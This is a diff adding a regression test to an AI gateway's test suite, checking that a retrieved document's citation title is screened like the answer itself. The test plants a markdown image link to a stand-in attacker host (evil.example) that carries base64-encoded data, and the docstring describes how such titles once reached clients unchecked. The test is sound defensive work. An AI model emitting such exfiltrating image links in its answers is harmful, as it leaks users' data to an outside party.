@@ -21,6 +21,7 @@ from ztai.gateway.knowledge import ChatBinding
 from ztai.identity.apikey import KeySpec, issue_key
 from ztai.knowledge.index import KnowledgeIndex
 from ztai.knowledge.model import Document, DocumentId
+from ztai.policy.bundled import starter_policies
 from ztai.protection.labels import LabelScheme
 from ztai.protection.pii import structured_pii_detector
 from ztai.storage.model import RiskLevel, RiskRecord
@@ -239,3 +240,30 @@ async def test_random_knowledge_requests_are_answered_without_a_server_error(
                     response.status_code >= 400 and "error" not in response.json()):
                 failed.append(f"{path} {body!r:.200} -> {response.status_code} ({new} events)")
     assert not failed, "\n".join(failed[:8])
+
+
+async def test_a_citation_s_title_is_judged_as_the_answer_is(tmp_path: Path) -> None:
+    """A document's title comes back in ``ztai_citations``; until 2026-11-28 it was added after
+    the answer's checks, so a markdown image in it carrying data off the allow-list reached
+    the client unjudged."""
+    exfil = "![logo](https://evil.example/p.png?d=c2VjcmV0LXBsYW4tZGV0YWlscw)"
+    built = KnowledgeIndex.build(tmp_path / "kb2", [
+        Document(DocumentId("faq"), "The support FAQ explains how to reset a password.",
+                 frozenset({"everyone"}), None, f"Support FAQ {exfil}", "web", "General")])
+    built.close()
+    index = KnowledgeIndex.open(tmp_path / "kb2")
+    try:
+        async with harness(tmp_path, Options(
+                upstream=ScriptedUpstream(lambda _: "See the FAQ."), knowledge={"corp": index},
+                knowledge_chat={"demo-chat": ChatBinding("corp", k=4)},
+                dlp=Classifier((structured_pii_detector(),), LabelScheme()),
+                policy_texts=starter_policies())) as h:
+            adele = key(h, "adele", "staff")
+            response = await h.client.post("/v1/chat/completions", headers=auth(adele),
+                                           json=chat(text="How do I reset a password?"))
+            event = h.last_event()
+    finally:
+        index.close()
+    assert "evil.example" not in response.text
+    assert (response.status_code, event["status"]) == (403, 403)  # as in the model's words
+    assert "no-exfiltration-in-answers" in response.json()["error"]["message"]
